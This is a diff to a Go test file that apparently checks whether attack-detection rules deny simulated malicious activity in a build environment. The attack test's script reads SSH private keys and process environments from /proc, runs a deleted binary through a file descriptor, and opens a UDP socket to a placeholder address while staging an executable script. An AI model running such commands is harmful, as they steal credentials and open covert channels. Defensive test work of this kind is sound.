@@ -50,7 +50,7 @@ func judged(t *testing.T, pack, params string, evidence []recorded) map[string][
 
 // TestOrdinaryBuildIsNotDenied: what builds do every day is no attack.
 func TestOrdinaryBuildIsNotDenied(t *testing.T) {
-	evidence := wrapped(t, `set -e
+	evidence, _ := wrapped(t, `set -e
 export HOME=$PWD/home GOCACHE=$PWD/home/cache GOFLAGS=-mod=mod
 mkdir -p home src; git init -q src; git clone -q src clone 2> /dev/null
 printf 'package main\nfunc main() {}\n' > src/main.go; printf 'module m\ngo 1.26\n' > src/go.mod
@@ -67,11 +67,11 @@ tar czf a.tar.gz src; mkdir -p /tmp/x.$$; tar xzf a.tar.gz -C /tmp/x.$$; rm -r /
 // TestAttacksAreDenied: each rule sees the thing itself, as a sensor records it,
 // and not only what its own tests make up.
 func TestAttacksAreDenied(t *testing.T) {
-	evidence := wrapped(t, `
+	evidence, _ := wrapped(t, `
 printf 'tok %s' "$TOKEN" > tok.txt
 export HOME=$PWD/home; mkdir -p home/.ssh; echo generated > home/.ssh/id_ed25519
 tr '\0' '\n' < /proc/$PPID/environ > /dev/null
-cat "$HOME/.ssh/id_ed25519" > /dev/null
+cat "$HOME/.ssh/id_ed25519" /proc/self/environ > /dev/null
 echo loot > /tmp/runner_collected_$$.txt; rm /tmp/runner_collected_$$.txt
 cp /bin/true gone; exec 9< gone; rm gone; /proc/self/fd/9
 bash -c 'exec 3<> /dev/udp/203.0.113.9/9 && printf "#!/bin/sh\n" > /tmp/stage.'$$' && chmod +x /tmp/stage.'$$
